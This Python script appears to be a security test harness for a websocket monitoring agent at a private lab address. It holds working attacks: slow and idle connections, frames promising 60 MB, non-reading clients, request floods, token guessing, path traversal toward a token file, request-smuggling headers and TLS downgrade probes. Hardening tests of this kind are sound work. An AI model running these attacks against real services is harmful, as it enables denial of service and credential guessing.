#!/usr/bin/env python3
"""Plays the attacker: what an unauthenticated or an admitted client can do to an agent on purpose.

Each attack goes on for --seconds and prints a line of what came of it. It talks to the box of the cases alone.
"""

import argparse
import asyncio
import os
import socket
import ssl
import struct
import warnings
from collections import Counter

HOST = "10.99.0.2"
PORT = 8443
# The pause after a connection that the agent has ended, before the next.
PAUSE = 0.5
UPGRADE = ("GET /ws HTTP/1.1\r\nHost: box\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nAuthorization: Bearer {token}\r\n\r\n")

TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE


def client_hello():
    """The first bytes of a TLS handshake."""
    outgoing = ssl.MemoryBIO()
    try:
        TLS.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def frame(kind, data, length=None, final=True):
    """A frame from a client, masked by zeros; its header may promise another length."""
    length = len(data) if length is None else length
    return struct.pack(">BBQ4x", kind | (0x80 if final else 0), 0xFF, length) + data


HEAD = UPGRADE.removesuffix("\r\n")
# (what it is, a request or a version of TLS)
ODD = [
    ("a foreign Origin", HEAD + "Origin: https://evil.example\r\n\r\n"),
    ("two Origins", HEAD + "Origin: null\r\nOrigin: null\r\n\r\n"),
    ("path traversal", UPGRADE.replace("/ws", "/ws/../../etc/socktop/token")),
    ("escaped path traversal", UPGRADE.replace("/ws", "/%2e%2e/%2e%2e/etc/socktop/token")),
    ("another method", UPGRADE.replace("GET", "POST")),
    ("two Hosts", HEAD + "Host: evil.example\r\n\r\n"),
    ("a body", HEAD + "Content-Length: 40\r\n\r\nGET /healthz HTTP/1.1\r\nHost: box\r\n\r\n"),
    ("a chunked body", HEAD + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: box\r\n\r\n"),
    ("both lengths", HEAD + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    ("a space before the colon", HEAD + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"),
    ("a second request behind the first", "GET /healthz HTTP/1.1\r\nHost: box\r\n\r\n" * 2),
    ("a head of 20 KB", HEAD + "X-Long: " + "x" * 20_000 + "\r\n\r\n"),
    ("200 headers", HEAD + "X-Many: x\r\n" * 200 + "\r\n"),
    ("five tokens", UPGRADE.replace("/ws", "/ws?" + "&".join(f"token={n}" for n in range(5)))),
    ("TLS 1.0", ssl.TLSVersion.TLSv1),
    ("TLS 1.1", ssl.TLSVersion.TLSv1_1),
]


class Attack:
    def __init__(self, arguments):
        self.arguments = arguments
        self.token = os.environ.get("ATTACKER_TOKEN", "")
        self.seen = Counter()
        self.open = 0
        self.dialled = 0

    async def dial(self, tls=True):
        connection = socket.socket()
        # Who never reads has a small window, so that all of it has to wait in the agent.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        if self.arguments.sources:
            connection.bind((self.arguments.sources[self.dialled % len(self.arguments.sources)], 0))
        self.dialled += 1
        await asyncio.get_running_loop().sock_connect(connection, (HOST, PORT))
        return await asyncio.open_connection(sock=connection, ssl=TLS if tls else None,
                                             server_hostname="box" if tls else None, limit=4096)

    async def session(self):
        reader, writer = await self.dial()
        writer.write(UPGRADE.format(token=self.token).encode())
        head = await reader.readuntil(b"\r\n\r\n")
        status = head.split(b" ")[1].decode()
        self.seen[status] += 1
        if status != "101":
            raise ConnectionError(status)
        return reader, writer

    async def ended(self, reader):
        """Waits until the agent closes the connection."""
        while await reader.read(4096):
            pass
        self.seen["ended by the agent"] += 1

    # ---- the attacks: one connection each -----------------------------------------------

    async def silent(self):
        reader, _ = await self.dial(tls=False)
        await self.ended(reader)

    async def hello(self):
        reader, writer = await self.dial(tls=False)
        writer.write(client_hello())
        await self.ended(reader)

    async def head(self):
        reader, writer = await self.dial()
        writer.write(b"GET /ws HTTP/1.1\r\nHost: box\r\nX-Slow: ")
        await self.ended(reader)

    async def plain(self):
        reader, writer = await self.dial(tls=False)
        writer.write(UPGRADE.format(token=self.token).encode())
        status = await reader.readline()
        self.seen[status.decode().split(" ")[1] if b" " in status else "closed"] += 1
        writer.close()

    async def unfinished(self):
        """A message that promises 60 MB, or pieces of one that never ends."""
        reader, writer = await self.session()
        writer.write(frame(0x1, b"x" * 32_000, final=False))
        for _ in range(40):
            writer.write(frame(0x0, b"x" * 30_000, 60_000_000 if self.seen["101"] % 2 else None, final=False))
            await writer.drain()
            await asyncio.sleep(0.2)
        await self.ended(reader)

    async def never_read(self):
        reader, writer = await self.session()
        # The socket below TLS is not read any more: asyncio's own pause would still take half a megabyte.
        reader._transport._ssl_protocol._transport.pause_reading()
        writer.write((frame(0x1, b"get_processes") + frame(0x1, b"get_metrics")) * 500)
        while not writer.is_closing():
            await asyncio.sleep(0.2)
        self.seen["ended by the agent"] += 1

    async def journals(self):
        reader, writer = await self.session()
        for pid in range(1, 400, 7):
            writer.write(frame(0x1, b"get_journal_entries:%d" % pid))
        await self.ended(reader)

    async def flood(self):
        """Requests as fast as the agent takes them."""
        reader, writer = await self.session()
        while True:
            writer.write(frame(0x1, b"get_metrics") * 50)
            await writer.drain()
            if not await reader.read(65536):
                return
            self.seen["replies read"] += 1

    async def guess(self):
        self.token = f"guess-{self.seen['guesses']}"
        self.seen["guesses"] += 1
        try:
            await self.session()
        except ConnectionError as error:
            if str(error).isdigit():
                raise
            self.seen["without an answer"] += 1

    async def odd(self):
        """What is no honest request, one after the other; and what is said to it."""
        what, send = ODD[self.seen["asked"] % len(ODD)]
        self.seen["asked"] += 1
        if isinstance(send, ssl.TLSVersion):
            answer = await self.old_tls(send)
        else:
            reader, writer = await self.dial()
            writer.write(send.format(token=self.token).encode())
            reply = await reader.read()
            # Of each answer the status: there is one, whatever follows the first request.
            answer = " and ".join(line.split(b" ")[1].decode() for line in reply.split(b"\r\n") if line.startswith(b"HTTP/"))
            writer.close()
        self.seen[f"{what}: {answer}"] += 1

    async def old_tls(self, version):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_ciphers("ALL:@SECLEVEL=0")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            context.minimum_version = context.maximum_version = version
        try:
            await asyncio.open_connection(HOST, PORT, ssl=context, server_hostname="box")
            return "let in"
        except ssl.SSLError:
            return "refused"

    async def one_after_another(self, call):
        loop = asyncio.get_running_loop()
        while loop.time() < self.until:
            try:
                self.open += 1
                self.seen["connections at once"] = max(self.seen["connections at once"], self.open)
                await call()
            except (OSError, EOFError, asyncio.IncompleteReadError) as error:
                self.seen[type(error).__name__] += 1
            finally:
                self.open -= 1
            await asyncio.sleep(self.arguments.pause)

    async def run(self):
        self.until = asyncio.get_running_loop().time() + self.arguments.seconds
        call = getattr(self, self.arguments.attack.replace("-", "_"))
        asyncio.get_running_loop().set_exception_handler(lambda *_: None)
        tasks = [asyncio.ensure_future(self.one_after_another(call)) for _ in range(self.arguments.connections)]
        _, pending = await asyncio.wait(tasks, timeout=self.arguments.seconds)
        for task in pending:
            task.cancel()
        print(", ".join(f"{count} {what}" for what, count in self.seen.items()))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=["silent", "hello", "head", "plain", "unfinished", "never-read", "journals", "flood",
                                           "guess", "odd"])
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--sources", nargs="*", default=[], help="addresses to come from, by turns")
    parser.add_argument("--pause", type=float, default=PAUSE)
    asyncio.run(Attack(parser.parse_args()).run())


if __name__ == "__main__":
    main()
